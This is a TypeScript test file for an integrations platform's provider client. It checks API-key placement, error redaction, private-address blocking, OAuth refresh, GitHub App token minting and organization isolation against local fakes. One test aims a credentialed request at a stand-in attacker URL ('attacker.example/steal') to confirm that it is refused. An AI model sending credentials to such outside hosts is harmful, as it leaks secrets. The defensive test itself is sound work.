import { generateKeyPairSync } from "node:crypto";
import { and, eq } from "drizzle-orm";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { getDb, type DbHandle } from "@/db/client";
import { integrationSecrets } from "@/db/schema";
import { testDbKinds, useTestDb } from "@/db/testing";
import { startSmtpSink } from "@/e2e/peers/smtp-sink";
import { ACCESS_TOKEN_FIELD, CALLBACK_PATH, completeAuthorization, startAuthorization } from "@/lib/connect/oauth";
import { completeGithubInstall, GITHUB_SETUP_PATH, startGithubInstall } from "@/lib/connect/github-app";
import { startFakeOAuth, type FakeOAuth } from "@/lib/connect/testing/fake-oauth";
import { createConnection, setConnectionEnabled } from "@/lib/connections/service";
import { resetEnvForTests } from "@/lib/env";
import { onEgressResult, type EgressResultEvent } from "@/lib/http";
import { resetEgressForTests } from "@/lib/http/testing";
import { addAllowlistEntry } from "@/lib/network/allowlist";
import { createOrganizationFor } from "@/lib/organizations/members";
import { completeSetup } from "@/lib/organizations/setup";
import { startFake, type FakeRequest } from "@/lib/providers/_shared/testing";
import { IntegrationDisabledError, IntegrationNotConfiguredError, IntegrationUnavailableError } from "@/lib/settings";
import { stopSettingsListener } from "@/lib/settings/invalidation";
import { getClient, ProviderRequestError } from "./clients";

const ORIGIN = "https://patchbay.example";
const APP_ID = 4242;
const INSTALLATION = 42;
const OAUTH_CLIENT = { clientId: "patchbay-clients-test", clientSecret: "client-secret-77aa" };

type Org = { id: string; name: string };
type Actor = { id: string; email: string; isPlatformAdmin: boolean };

async function rejection(p: Promise<unknown>): Promise<Error> {
  return p.then(
    (v) => {
      throw new Error(`expected a rejection, got ${JSON.stringify(v)}`);
    },
    (e: unknown) => e as Error,
  );
}

/** A local stand-in for the provider APIs: answers by path and records every request. */
async function startApi() {
  const minted: string[] = [];
  const fake = await startFake((req: FakeRequest) => {
    if (req.path === "/fail") return { status: 404, body: { message: `no such thing (you sent ${req.headers["x-api-key"] ?? "nothing"})` } };
    if (req.path === "/api/chat.postMessage") {
      const body = JSON.parse(req.body) as { channel: string };
      return { body: body.channel === "#nope" ? { ok: false, error: "channel_not_found" } : { ok: true, channel: "C123", ts: "1700000000.000100" } };
    }
    if (req.path === "/v3/mail/send") return { status: 202, headers: { "x-message-id": "sg-msg-1" } };
    if (req.path === `/app/installations/${INSTALLATION}` && req.method === "GET") return { body: { id: INSTALLATION, app_id: APP_ID, app_slug: "patchbay-test", account: { login: "acme-corp", type: "Organization" } } };
    if (req.path === `/app/installations/${INSTALLATION}/access_tokens` && req.method === "POST") {
      const token = `ghs_minted_${minted.length + 1}`;
      minted.push(token);
      return { status: 201, body: { token, expires_at: new Date(Date.now() + 3_600_000).toISOString() } };
    }
    return { body: { path: req.path, query: Object.fromEntries(req.url.searchParams), method: req.method, body: req.body } };
  });
  return Object.assign(fake, { minted });
}

describe.each(testDbKinds())("getClient on %s", (kind) => {
  let handle: DbHandle;
  let api: Awaited<ReturnType<typeof startApi>>;
  let oauthServer: FakeOAuth;
  let owner: Actor;
  let acme: Org;
  let globex: Org;
  let initech: Org;
  const savedEgressFlag = process.env.PATCHBAY_ALLOW_PRIVATE_EGRESS;

  const apiKeyConnection = (org: Org, name: string, values: Record<string, unknown>, platformWide = false) =>
    createConnection({ org, actor: owner, providerKey: "custom-api-key", platformWide, name, values: { baseUrl: api.url, ...values }, testBeforeSave: false, ip: null });

  beforeAll(async () => {
    // The allowlist, not the global escape hatch, must be what lets these calls reach loopback.
    delete process.env.PATCHBAY_ALLOW_PRIVATE_EGRESS;
    resetEnvForTests();
    handle = await useTestDb(kind);
    api = await startApi();
    oauthServer = await startFakeOAuth(OAUTH_CLIENT);
    const setup = await completeSetup({ name: "Ada", email: "ada@example.com", password: "correct horse battery", orgName: "Acme", ip: null });
    owner = { id: setup.user.id, email: setup.user.email, isPlatformAdmin: setup.user.isPlatformAdmin };
    acme = setup.org;
    globex = await createOrganizationFor(setup.user, "Globex", null);
    initech = await createOrganizationFor(setup.user, "Initech", null);
    for (const entry of ["127.0.0.1", "localhost"]) await addAllowlistEntry({ orgId: acme.id, platform: false, actor: owner, entry, note: "test peers", ip: null });
  });

  afterEach(() => oauthServer.reset());

  afterAll(async () => {
    await api?.close();
    await oauthServer?.close();
    await resetEgressForTests();
    await stopSettingsListener();
    delete (globalThis as { __patchbaySettingsCache?: unknown }).__patchbaySettingsCache;
    await handle?.close();
    if (savedEgressFlag === undefined) delete process.env.PATCHBAY_ALLOW_PRIVATE_EGRESS;
    else process.env.PATCHBAY_ALLOW_PRIVATE_EGRESS = savedEgressFlag;
    resetEnvForTests();
  });

  it("names the provider and its setup page when nothing is configured", async () => {
    const e = await rejection(getClient("stripe", { orgId: globex.id }));
    expect(e).toBeInstanceOf(IntegrationNotConfiguredError);
    expect(e.message).toBe("Stripe is not configured for Globex. An admin can set it up at /integrations/stripe.");
  });

  it("sends the API key where the connection says: header, bearer or query", async () => {
    const header = await apiKeyConnection(acme, "Header key", { apiKey: "key-in-header-123", headerName: "X-Api-Key" });
    const bearer = await apiKeyConnection(acme, "Bearer key", { apiKey: "key-as-bearer-456", authPlacement: "bearer" });
    const query = await apiKeyConnection(acme, "Query key", { apiKey: "key-in-query-789", authPlacement: "query", queryParam: "token" });

    const byDefault = await getClient("custom-api-key", { orgId: acme.id });
    const r = await byDefault.request<{ path: string; query: Record<string, string> }>("/things", { query: { limit: 3 } });
    expect(r.status).toBe(200);
    expect(r.data).toMatchObject({ path: "/things", query: { limit: "3" } });
    expect(api.requests.at(-1)!.headers["x-api-key"]).toBe("key-in-header-123");
    expect(api.requests.at(-1)!.headers.authorization).toBeUndefined();
    // egressFetch tags every call with a request id: proof the call went through egress.
    expect(api.requests.at(-1)!.headers["x-request-id"]).toMatch(/^[0-9a-f-]{36}$/);
    expect(header.id).toBeTruthy();

    await (await getClient("custom-api-key", { orgId: acme.id, connectionId: bearer.id })).request("/b", { method: "POST", body: { a: 1 } });
    const sent = api.requests.at(-1)!;
    expect(sent.headers.authorization).toBe("Bearer key-as-bearer-456");
    expect(sent.headers["content-type"]).toBe("application/json");
    expect(sent.body).toBe('{"a":1}');

    await (await getClient("custom-api-key", { orgId: acme.id, connectionId: query.id })).request("/q?x=1");
    expect(api.requests.at(-1)!.url.search).toBe("?x=1&token=key-in-query-789");
  });

  it("throws the provider's answer for a non-2xx, with the key blanked out", async () => {
    const client = await getClient("custom-api-key", { orgId: acme.id });
    const e = await rejection(client.request("/fail"));
    expect(e).toBeInstanceOf(ProviderRequestError);
    expect((e as ProviderRequestError).providerStatus).toBe(404);
    expect(e.message).toContain("answered 404 to GET /fail");
    expect(e.message).not.toContain("key-in-header-123");
  });

  it("never sends the credentials to another origin", async () => {
    const client = await getClient("custom-api-key", { orgId: acme.id });
    const before = api.requests.length;
    const e = await rejection(client.request("https://attacker.example/steal"));
    expect(e.message).toMatch(/must stay on http:\/\/127\.0\.0\.1:\d+; https:\/\/attacker\.example is another origin/);
    expect(api.requests.length).toBe(before);
    // An absolute URL on the connection's own origin (a pagination link) is fine.
    expect((await client.request<{ path: string }>(`${api.url}/page/2`)).data.path).toBe("/page/2");
  });

  it("uses basic auth for basic-auth providers and tags calls for passive health", async () => {
    const jira = await createConnection({ org: acme, actor: owner, providerKey: "jira", platformWide: false, name: "Jira", values: { baseUrl: api.url, email: "bot@acme.test", apiToken: "jira-token-1" }, testBeforeSave: false, ip: null });
    const events: EgressResultEvent[] = [];
    const off = onEgressResult((e) => events.push(e));
    try {
      await (await getClient("jira", { orgId: acme.id })).request("/rest/api/3/myself");
    } finally {
      off();
    }
    expect(api.requests.at(-1)!.headers.authorization).toBe(`Basic ${Buffer.from("bot@acme.test:jira-token-1").toString("base64")}`);
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ connectionId: jira.id, ok: true });
  });

  it("refuses a private address the organization has not allowed", async () => {
    // 127.0.0.2 is loopback too, and only 127.0.0.1 is on Acme's allowlist.
    await createConnection({ org: initech, actor: owner, providerKey: "custom-api-key", platformWide: false, name: "Internal", values: { baseUrl: "http://127.0.0.2:9", apiKey: "k-123" }, testBeforeSave: false, ip: null });
    const client = await getClient("custom-api-key", { orgId: initech.id });
    const e = await rejection(client.request("/x"));
    expect(e.message).toMatch(/127\.0\.0\.2 is a private address/);
  });

  it("resolves the organization's own connection first, then the platform-wide one", async () => {
    await addAllowlistEntry({ orgId: acme.id, platform: true, actor: owner, entry: "127.0.0.1", note: "platform peers", ip: null });
    await createConnection({ org: acme, actor: owner, providerKey: "sendgrid", platformWide: true, name: "Platform SendGrid", values: { baseUrl: api.url, apiKey: "SG.platform.key", fromAddress: "noreply@platform.test" }, testBeforeSave: false, ip: null });
    const platform = await getClient("sendgrid", { orgId: globex.id });
    await platform.request("/v3/scopes");
    expect(api.requests.at(-1)!.headers.authorization).toBe("Bearer SG.platform.key");

    await createConnection({ org: globex, actor: owner, providerKey: "sendgrid", platformWide: false, name: "Globex SendGrid", values: { baseUrl: api.url, apiKey: "SG.globex.key", fromAddress: "noreply@globex.test" }, testBeforeSave: false, ip: null });
    const own = await getClient("sendgrid", { orgId: globex.id });
    const sent = await own.send({ to: "ops@globex.test", subject: "Hi", text: "It works" });
    expect(sent.messageId).toBe("sg-msg-1");
    const req = api.requests.at(-1)!;
    expect(req.path).toBe("/v3/mail/send");
    expect(req.headers.authorization).toBe("Bearer SG.globex.key");
    expect(JSON.parse(req.body)).toMatchObject({ from: { email: "noreply@globex.test" }, subject: "Hi", personalizations: [{ to: [{ email: "ops@globex.test" }] }] });
  });

  it("sends email through an SMTP connection with send()", async () => {
    const sink = await startSmtpSink({ username: "mailer", password: "sink-password-1" });
    try {
      await createConnection({ org: acme, actor: owner, providerKey: "smtp", platformWide: false, name: "Relay", values: { host: "127.0.0.1", port: String(sink.port), security: "none", username: "mailer", password: "sink-password-1", fromAddress: "alerts@acme.test" }, testBeforeSave: false, ip: null });
      const smtp = await getClient("smtp", { orgId: acme.id });
      await expect(smtp.send({ to: "ops@acme.test", subject: "No body" })).rejects.toThrow("An email needs a text or html body.");
      const r = await smtp.send({ to: "ops@acme.test", subject: "Ready client", text: "hello" });
      expect(r.provider).toBe("smtp");
      expect(sink.received).toHaveLength(1);
      expect(sink.received[0]!.raw).toContain("Subject: Ready client");
    } finally {
      await sink.close();
    }
  });

  it("posts Slack messages and explains Slack's ok:false answers", async () => {
    await createConnection({ org: acme, actor: owner, providerKey: "slack", platformWide: false, name: "Slack", values: { baseUrl: api.url, botToken: "xoxb-123-456-abc" }, testBeforeSave: false, ip: null });
    const slack = await getClient("slack", { orgId: acme.id });
    expect(await slack.postMessage({ channel: "#ops", text: "Deployed" })).toEqual({ channel: "C123", ts: "1700000000.000100" });
    const req = api.requests.at(-1)!;
    expect(req.headers.authorization).toBe("Bearer xoxb-123-456-abc");
    expect(JSON.parse(req.body)).toEqual({ channel: "#ops", text: "Deployed" });
    const e = await rejection(slack.postMessage({ channel: "#nope", text: "x" }));
    expect(e.message).toBe("Slack could not post to #nope (channel_not_found): invite the bot to the channel, or check its id.");
  });

  it("refuses a connection of another provider, and a disabled one with the page to enable it", async () => {
    const slackRow = await createConnection({ org: acme, actor: owner, providerKey: "slack", platformWide: false, name: "Second Slack", values: { baseUrl: api.url, botToken: "xoxb-9-9-z" }, testBeforeSave: false, ip: null });
    const wrong = await rejection(getClient("jira", { orgId: acme.id, connectionId: slackRow.id }));
    expect(wrong).toBeInstanceOf(IntegrationNotConfiguredError);
    expect(wrong.message).toBe('Connection "Second Slack" is not a Jira connection.');
    await expect(getClient("jira", { orgId: acme.id, connectionId: "not-a-uuid" })).rejects.toBeInstanceOf(IntegrationNotConfiguredError);
    // Another organization's connection is invisible.
    await expect(getClient("slack", { orgId: globex.id, connectionId: slackRow.id })).rejects.toBeInstanceOf(IntegrationNotConfiguredError);

    await setConnectionEnabled({ org: acme, actor: owner, id: slackRow.id, enabled: false, ip: null });
    const off = await rejection(getClient("slack", { orgId: acme.id, connectionId: slackRow.id }));
    expect(off).toBeInstanceOf(IntegrationDisabledError);
    expect(off.message).toContain(`/connections/${slackRow.id}`);
  });

  it("calls a GitHub App's API with an installation token minted and cached by lib/connect", async () => {
    const { privateKey } = generateKeyPairSync("rsa", { modulusLength: 2048, privateKeyEncoding: { type: "pkcs8", format: "pem" }, publicKeyEncoding: { type: "spki", format: "pem" } });
    const { id } = await createConnection({ org: acme, actor: owner, providerKey: "github-app", platformWide: false, name: "GitHub", values: { appId: String(APP_ID), appSlug: "patchbay-test", baseUrl: api.url, privateKey }, testBeforeSave: false, ip: null });

    const notInstalled = await rejection((await getClient("github-app", { orgId: acme.id })).request("/repos/acme/app"));
    expect(notInstalled).toBeInstanceOf(IntegrationUnavailableError);
    expect(notInstalled.message).toContain(`install it at /connections/${id}`);

    const start = await startGithubInstall({ orgId: acme.id, actor: owner, connectionId: id, origin: ORIGIN, ip: null });
    const state = new URL(start.url).searchParams.get("state")!;
    const setupUrl = new URL(`${ORIGIN}${GITHUB_SETUP_PATH}?installation_id=${INSTALLATION}&setup_action=install&state=${state}`);
    await completeGithubInstall({ url: setupUrl, readCookie: (n) => (n === start.cookie.name ? start.cookie.value : undefined), userId: owner.id, ip: null });

    const gh = await getClient("github-app", { orgId: acme.id });
    const r = await gh.request<{ path: string }>("/repos/acme/app");
    expect(r.data.path).toBe("/repos/acme/app");
    const call = api.requests.at(-1)!;
    expect(call.headers.authorization).toBe("Bearer ghs_minted_1");
    expect(call.headers["x-github-api-version"]).toBe("2022-11-28");
    // The mint itself was authenticated with the app's JWT.
    expect(api.requests.find((q) => q.path.endsWith("/access_tokens"))!.headers.authorization).toMatch(/^Bearer [\w-]+\.[\w-]+\.[\w-]+$/);
    await gh.request("/repos/acme/other");
    expect(api.minted).toEqual(["ghs_minted_1"]);
  });

  it("sends a current OAuth token: refreshed when expired, needs_reauth when the grant is dead", async () => {
    const { id } = await createConnection({
      org: acme,
      actor: owner,
      providerKey: "custom-oauth2",
      platformWide: false,
      name: "Fake IdP",
      values: { serviceName: "Fake IdP", authorizationUrl: oauthServer.authorizationUrl, tokenUrl: oauthServer.tokenUrl, apiBaseUrl: api.url, clientId: OAUTH_CLIENT.clientId, clientSecret: OAUTH_CLIENT.clientSecret, clientAuth: "client_secret_basic" },
      testBeforeSave: false,
      ip: null,
    });
    const pending = await rejection(getClient("custom-oauth2", { orgId: acme.id }));
    expect(pending).toBeInstanceOf(IntegrationUnavailableError);
    expect(pending.message).toContain(`/connections/${id}`);

    const a = await startAuthorization({ orgId: acme.id, actor: owner, connectionId: id, origin: ORIGIN, ip: null });
    const { code } = oauthServer.authorize(a.url);
    const state = new URL(a.url).searchParams.get("state")!;
    await completeAuthorization({ url: new URL(`${ORIGIN}${CALLBACK_PATH}?code=${code}&state=${state}`), readCookie: (n) => (n === a.cookie.name ? a.cookie.value : undefined), userId: owner.id, ip: null });
    const issued = oauthServer.tokenCalls.at(-1)!.accessToken!;

    const client = await getClient("custom-oauth2", { orgId: acme.id });
    await client.request("/me");
    expect(api.requests.at(-1)!.headers.authorization).toBe(`Bearer ${issued}`);

    const expire = () =>
      getDb()
        .update(integrationSecrets)
        .set({ expiresAt: new Date(Date.now() - 1000), updatedAt: new Date(Date.now() - 3_600_000) })
        .where(and(eq(integrationSecrets.integrationId, id), eq(integrationSecrets.field, ACCESS_TOKEN_FIELD)));
    await expire();
    await client.request("/me");
    const refresh = oauthServer.tokenCalls.at(-1)!;
    expect(refresh.grantType).toBe("refresh_token");
    expect(refresh.accessToken).not.toBe(issued);
    expect(api.requests.at(-1)!.headers.authorization).toBe(`Bearer ${refresh.accessToken}`);

    await expire();
    oauthServer.behaviour.refreshError = "invalid_grant";
    const before = api.requests.length;
    const dead = await rejection(client.request("/me"));
    expect(dead).toBeInstanceOf(IntegrationUnavailableError);
    expect(api.requests.length).toBe(before);
    const reconnect = await rejection(getClient("custom-oauth2", { orgId: acme.id }));
    expect(reconnect).toBeInstanceOf(IntegrationUnavailableError);
    expect(reconnect.message).toBe(`The Custom OAuth 2.0 connection "Fake IdP" needs to be reconnected. An admin can do it at /connections/${id}.`);
  });

  it("types each client by provider", async () => {
    // Compile-time checks: tsc fails this file if a client loses its methods or gains wrong ones.
    const slack = await getClient("slack", { orgId: acme.id });
    const post: (m: { channel: string; text: string }) => Promise<{ channel: string; ts: string }> = slack.postMessage;
    const smtp = await getClient("smtp", { orgId: acme.id });
    // @ts-expect-error SMTP has no HTTP API
    expect(smtp.request).toBeUndefined();
    // @ts-expect-error S3 has no ready client
    await expect(getClient("s3", { orgId: acme.id })).rejects.toBeInstanceOf(IntegrationNotConfiguredError);
    expect(typeof post).toBe("function");
    expect(typeof smtp.send).toBe("function");
  });
});
